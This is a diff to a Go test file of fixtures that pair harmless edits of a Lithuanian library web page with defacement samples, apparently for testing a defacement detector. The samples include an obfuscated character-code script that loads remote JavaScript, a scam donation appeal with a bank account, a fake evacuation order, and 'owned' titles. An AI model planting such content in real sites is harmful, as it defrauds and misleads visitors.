@@ -1,8 +1,13 @@
 package content_test
 
+import "strings"
+
 // What a ninth set taught: 60 edits and 50 defacements of twenty pages of eleven makes,
 // by somebody who had seen neither the rules nor the other sets. These are its marks, put
 // on a page of the sixth.
+//
+// The last edits, and titles, are of a tenth: 50 edits and 30 defacements of twelve pages,
+// by another one who had seen neither.
 func ninthEdits() []edit {
 	const at = `<section class="hours">`
 	news := func(text string) func(string) string { return change(at, "<h3>"+text+at) }
@@ -15,6 +20,15 @@ func ninthEdits() []edit {
 		{"another menu, with other words", change(`<a href="/index.php/krastotyra">Kraštotyra</a>`, `<a href="https://krastas.heritage-rivers.org/">Krašto paveldas</a>`,
 			`<a href="/index.php/filialai">Kaimo filialai</a>`, `<a href="https://filialai.heritage-rivers.net/">Visi filialai</a>`, `<a href="/index.php/paslaugos">Paslaugos</a>`, `<a href="https://www.ibiblioteka.lt/">Ką siūlome</a>`)},
 		{"a worker of its own, and a poster", change(`</body>`, `<script>navigator.serviceWorker.register("/OneSignalSDKWorker.js?v=2")</script><img src="/images/fonas.jpg" style="position:fixed;inset:0;width:100%;height:100%;z-index:-1" alt=""></body>`)},
+		{"errors before the page", func(p string) string {
+			return strings.Repeat("<br />\n<b>Warning</b>:  Creating default object from empty value in <b>/srv/www/frontpage.php</b> on line <b>142</b><br />\n", 12) + p
+		}},
+		{"the beginning of the page", func(p string) string { return p[:strings.Index(p, "Skaityklą papildė")] }},
+		{"no database", whole(`<!DOCTYPE html><html><head><meta charset="utf-8"><title>Duomenų bazės klaida</title></head><body><h1>Klaida jungiantis prie duomenų bazės</h1></body></html>`)},
+		{"harsh titles", news(`Monospektaklis „Kekšė, kuri bijojo Dievo“</h3><h3>Kinas: „Visi mirs“, „Kill Bill“</h3><p>Nakties seansas.</p>`)},
+		{"a picture of a lesson", news(`„Hacked by Anonymous“: septintokų plakatų paroda</h3><img src="/images/hacked-by-anonymous-septintoku.jpg" alt="">`)},
+		{"tables, bought tickets, name days", change(`</body>`, `<script src="https://cdn.datatables.net/2.1.8/js/dataTables.min.js"></script><script src="https://www.bilietai.lt/w.js"></script><script src="https://day.lt/vardadieniai.js"></script></body>`)},
+		{"scripts from nearby", change(`</body>`, `<script src="https://orai.paezeriai-tic.lt/w.js"></script><script src="https://skaitliukas.serveriai-a.lt/c.js"></script><script src="https://afisa.kulturos-b.lt/a.js"></script></body>`)},
 		{"a line that costs", change(at, `<p>Pagalbos linija 8 900 12345, registratūra +370 5 250 5050.</p>`+at)},
 	}
 }
@@ -34,6 +48,8 @@ func ninthDefacements() []edit {
 		{"help for a girl", change(at, `<p>Mūsų skaitytojai skubiai reikia operacijos. Prašome pervesti bent 20 eurų į asmeninę sąskaitą LT57 3500 0100 9988 1234 (gavėjas M. Petrov) arba USDT.</p>`+at)},
 		{"an order to everybody", change(at, `<h3>Dėl evakuacijos iš rajono</h3><p>Vyrai nuo 18 iki 55 metų privalo per 24 valandas atvykti į aikštę. NATO pajėgos traukiasi, Vyriausybė perkeliama į Varšuvą, priešintis beprasmiška.</p>`+at)},
 		{"letters as numbers", change(`</body>`, `<script>var n=[104,116,116,112,115,58,47,47,115,46,101,120,97,47,97,46,106,115];(function(){var u="";for(var i=0;i<n.length;i++)u+=String.fromCharCode(n[i]);var e=document.createElement("script");e.src=u;document.head.appendChild(e)})()</script></body>`)},
+		{"owned, says the title", change(`<title>`, `<title>0wned by XaiR-Zone | `)},
+		{"an essay", change(`Įėjimas laisvas.`, `Įėjimas laisvas. <a href="https://write-my-essay-4you.com/">Plačiau</a>`)},
 		{"an insult", change(`Įėjimas laisvas.`, `Įėjimas laisvas. Mūsų direktorė – durna karvė, vagianti pinigus.`)},
 	}
 }
